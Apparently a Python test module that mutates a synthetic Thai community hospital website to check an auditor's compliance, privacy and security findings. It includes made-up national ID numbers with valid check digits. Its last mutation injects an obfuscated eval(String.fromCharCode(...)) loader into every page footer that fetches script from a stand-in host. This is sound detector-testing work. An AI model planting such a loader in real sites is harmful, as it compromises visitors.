"""What may happen to the community hospital's site."""

from __future__ import annotations

import re
from dataclasses import replace

from auditor.findings import Status
from tests.sites import office
from tests.sites.hospital import markup
from tests.sites.hospital.papers import DAY, OFFICE, STEPS, address, duties
from tests.sites.mutation import (
    FAIL,
    FAIL_OR_REVIEW,
    PARTIAL,
    PASS,
    REVIEW,
    UNVERIFIABLE,
    Mutation,
    answering_all,
    as_entities,
    closed_by_robots,
    on_every_foot,
    on_every_page,
    same,
    typed,
)
from tests.sites.papers import Paper
from tests.sites.truth import FindingMark
from tests.sites.website import Answer, Website

MANUAL = ("1.6.manual", "1.6.manual-steps", "1.6.manual-durations", "1.6.manual-download")
UNITS = "ผู้อำนวยการ กลุ่มงานบริหารทั่วไป กลุ่มการพยาบาล องค์กรแพทย์ กลุ่มงานเภสัชกรรม กลุ่มงานทันตกรรม"


def _rewritten(site: Website, where: str, title: str, body: str) -> Website:
    return site.with_body(where, markup.page(title, body))


def _without_entry(site: Website, name: str) -> Website:
    """A file of the yearly folder is gone, and its link with it."""
    body = site.answers["/ita"].body
    assert isinstance(body, str)
    entry = rf'<li class="list-group-item"><a href="{re.escape(address(name))}"[^>]*>[^<]*</a></li>'
    return site.without(address(name)).with_body("/ita", re.sub(entry, "", body))


def _chart_told(site: Website) -> Website:
    return _without_entry(site, "m2-103").edited(
        "/page/structure", 'src="/storage/img/chart-2567.jpg"', f'src="/storage/img/chart-2567.jpg" alt="{UNITS}"'
    )


def _vision_in_folder(site: Website) -> Website:
    paper = Paper(
        (
            "# วิสัยทัศน์ พันธกิจ ค่านิยม",
            f"# {OFFICE.name}",
            "วิสัยทัศน์ : เป็นโรงพยาบาลชุมชนคุณภาพ ที่ประชาชนไว้วางใจ เจ้าหน้าที่มีความสุข",
            "พันธกิจ : ๑. ให้บริการรักษาพยาบาลที่ได้มาตรฐานและปลอดภัย ๒. ส่งเสริมสุขภาพและป้องกันโรคเชิงรุก",
        )
    )
    memo = Answer(body=office.memo(OFFICE, "วิสัยทัศน์ พันธกิจ ค่านิยม MOPH", DAY))
    entry = '<li class="list-group-item"><a href="/storage/ita/2567/{}.pdf">2. วิสัยทัศน์ พันธกิจ ค่านิยม MOPH</a></li>'
    contact = f'<li class="list-group-item"><a href="{address("m2-107")}"'
    return (
        site.without("/page/vision")
        .edited_everywhere('<li><a class="dropdown-item" href="/page/vision">วิสัยทัศน์และพันธกิจ</a></li>', "")
        .edited("/ita", contact, entry.format("m2-2-memo") + entry.format("m2-2") + contact)
        .with_answer("/storage/ita/2567/m2-2.pdf", Answer(body=paper))
        .with_answer("/storage/ita/2567/m2-2-memo.pdf", memo)
    )


def _native_accordion(text: str) -> str:
    text = re.sub(
        r'<div class="accordion-item"><h3 class="accordion-header"><button[^>]*>([^<]*)</button></h3>',
        r"<details><summary>\1</summary>",
        text,
    )
    text = re.sub(r'<div id="c\d+-\d+" class="accordion-collapse collapse" aria-hidden="true">', "<section>", text)
    return text.replace("</ul></div></div>", "</ul></section></details>") if "<details>" in text else text


def _another_hospitals_duties(site: Website) -> Website:
    lines = tuple(line.replace("โรงพยาบาลภูน้ำเย็น", "โรงพยาบาลหนองปลาไหล") for line in duties().lines)
    return site.with_body(address("m2-104"), Paper(lines))


def _without_times(site: Website) -> Website:
    page = site.answers["/page/service-steps"].body
    assert isinstance(page, str)
    page = re.sub(r"<td>\d+ นาที</td>", "", page).replace("<th>ระยะเวลา</th>", "")
    paper = office.guide(OFFICE, "ขั้นตอนการรับบริการผู้ป่วยนอก", [(step, "") for step, _ in STEPS])
    return site.with_body("/page/service-steps", page).with_body("/storage/files/guide-opd.pdf", paper)


def _second_webmaster(site: Website) -> Website:
    names = [("นายวรพล คำมูล", "นักวิชาการคอมพิวเตอร์"), ("นางสาวอรทัย มาลา", "เจ้าพนักงานเวชสถิติ")]
    return site.with_body(address("m1-12"), office.webmaster_order(OFFICE, "112/2566", "22 ธันวาคม พ.ศ. 2566", names))


def _forms_for_strategy(site: Website) -> Website:
    return site.with_body(address("m2-8"), office.request_form(OFFICE, "นโยบายและยุทธศาสตร์ของหน่วยงาน", DAY))


def _real_agreement(site: Website) -> Website:
    return site.with_body("/storage/files/pa2567.pdf", office.agreement(OFFICE, 2567))


def _own_text(site: Website) -> Website:
    announcement = site.answers[address("m1-13")].body
    assert isinstance(announcement, Paper)
    return site.with_answer(address("m1-13"), typed(replace(announcement, scanned=False).lines))


def _list_of_examinees(site: Website) -> Website:
    """Made-up numbers with right check digits, as a list of names shows them."""
    names = [
        ("นายวรพล คำมูล", "1101500123452"),
        ("นางสาวอรทัย มาลา", "3100600123450"),
        ("นางทองใบ ดีงาม", "5501200345670"),
    ]
    rows = "".join(f"<tr><td>{n}</td><td>{name}</td><td>{cid}</td></tr>" for n, (name, cid) in enumerate(names, 1))
    table = f"<table><tr><th>ที่</th><th>ชื่อ - สกุล</th><th>เลขประจำตัวประชาชน</th></tr>{rows}</table>"
    return site.edited("/news/131", "</main>", f"{table}</main>")


_LOADER = "".join(f"{ord(letter)}," for letter in 'var s=document.createElement("script");s.src="//x9.invalid/a.js"')

MUTATIONS = (
    Mutation("the executives' page is gone", lambda site: site.without("/page/executives"), {"1.1.executives": FAIL}),
    Mutation(
        "the cards of vision and mission are empty",
        lambda site: _rewritten(site, "/page/vision", "วิสัยทัศน์และพันธกิจ", '<div class="row g-4"></div>'),
        same(FAIL, "1.1.vision", "1.1.mission"),
    ),
    Mutation(
        "the history is coming soon",
        lambda site: _rewritten(site, "/page/about", "ประวัติโรงพยาบาล", "<p>กำลังปรับปรุงข้อมูล Coming soon</p>"),
        {"1.1.history": FAIL},
    ),
    Mutation(
        "the annual reports were not found",
        lambda site: _rewritten(site, "/page/annual-report", "รายงานประจำปี", "<p>ไม่พบข้อมูล</p>"),
        {"1.1.annual-report": FAIL},
    ),
    Mutation(
        "the structure is only a picture", lambda site: _without_entry(site, "m2-103"), {"1.1.structure": REVIEW}
    ),
    Mutation("the structure is a picture that tells its words", _chart_told, {"1.1.structure": PASS}),
    Mutation(
        "things carry other usual names",
        lambda site: (
            site.edited_everywhere("แผนปฏิบัติการประจำปีของหน่วยงาน", "แผนปฏิบัติราชการประจำปี")
            .edited_everywhere("ทำเนียบผู้บริหาร", "คณะผู้บริหาร")
            .edited_everywhere("ดาวน์โหลดแบบฟอร์ม", "แบบฟอร์มต่าง ๆ")
        ),
    ),
    Mutation(
        "words are misspelt as usual",
        lambda site: (
            site.edited_everywhere("คู่มือการปฏิบัติงาน", "คู่มือการปกิบัติงาน")
            .edited_everywhere("กฎหมาย", "กฏหมาย")
            .edited_everywhere("ดาวน์โหลด", "ดาวโหลด")
        ),
    ),
    Mutation(
        "the vision stands in the yearly folder only", _vision_in_folder, same(PASS, "1.1.vision", "1.1.mission")
    ),
    Mutation("the accordions are native", lambda site: on_every_page(site, _native_accordion)),
    Mutation(
        "this year's plan is last year's",
        lambda site: site.with_body(address("m2-9"), office.action_plan(OFFICE, 2566)),
        {"1.1.action-plan": PARTIAL | REVIEW},
    ),
    Mutation("the duties are another hospital's", _another_hospitals_duties, {"1.1.duties": FAIL_OR_REVIEW}),
    Mutation(
        "a fax number is added",
        lambda site: site.edited(
            "/contact", "โทรศัพท์ 0 4200 0155<br>", "โทรศัพท์ 0 4200 0155<br>โทรสาร 0 4200 0156<br>"
        ),
        {"1.1.fax": PASS},
    ),
    Mutation(
        "the e-mail address is written against robots",
        lambda site: site.edited(
            "/contact",
            '<a href="mailto:saraban@phunamyen-hospital.invalid">saraban@phunamyen-hospital.invalid</a>',
            "saraban[at]phunamyen-hospital[dot]invalid",
        ),
    ),
    Mutation("numbers are in Thai digits", lambda site: site.edited_everywhere("0 4200 0155", "๐ ๔๒๐๐ ๐๑๕๕")),
    Mutation("the guide tells no times", _without_times, {"1.7.guide-durations": FAIL}),
    Mutation("a second web master is appointed", _second_webmaster, {"3.1.two-webmasters": PASS}),
    Mutation("the survey is gone", lambda site: site.without("/survey/website"), {"1.10.satisfaction-survey": FAIL}),
    Mutation(
        "appointments can no longer be made",
        lambda site: site.without("/appointment"),
        {"1.9.e-service": frozenset({Status.NOT_APPLICABLE})},
    ),
    Mutation(
        "robots.txt closes the yearly files",
        lambda site: closed_by_robots(site, "/storage/ita/"),
        same(
            UNVERIFIABLE,
            "1.1.duties",
            "1.1.strategy",
            "1.1.action-plan",
            "1.1.projects-budget",
            *MANUAL,
            "2.1.webmaster-order",
            "3.1.two-webmasters",
            "3.announcement",
            "2.2.request-form",
        )
        | same(UNVERIFIABLE | REVIEW, "1.1.structure")
        | same(UNVERIFIABLE | PASS, "1.5.oia-committee")
        | same(UNVERIFIABLE | FAIL, "1.1.fax"),  # a file that says to hold the contact data is among them
    ),
    Mutation(
        "the CIO's page and order answer 500",
        lambda site: site.with_status(500, "/page/cio", "/storage/files/cio-order.pdf"),
        {"1.1.cio": UNVERIFIABLE},
    ),
    Mutation("request forms stand in for the strategy", _forms_for_strategy, {"1.1.strategy": FAIL}),
    Mutation("the agreement is one", _real_agreement, {"1.1.performance-agreement": PASS}),
    Mutation("the announcement has text", _own_text, {"3.announcement": PASS}),
    Mutation(
        "the laws' address answers 200 with the not-found page",
        lambda site: answering_all(site.without("/page/laws")),
        same(FAIL, "1.2.laws", "1.2.laws-source"),
    ),
    Mutation("the header names no charset", lambda site: site.recoded("utf-8", "text/html")),
    Mutation("Thai letters are character references", lambda site: on_every_page(site, as_entities)),
    Mutation(
        "a list of examinees shows their ID numbers",
        _list_of_examinees,
        findings=(FindingMark(rule="privacy.national-id", url_suffix="/news/131"),),
    ),
    Mutation(
        "an intruder's script is in the template",
        lambda site: on_every_foot(site, f"<script>eval(String.fromCharCode({_LOADER}32))</script>"),
        {"3.4.computer-crime": FAIL},
        (FindingMark(rule="security.suspicious-script", url_suffix=""),),
    ),
)
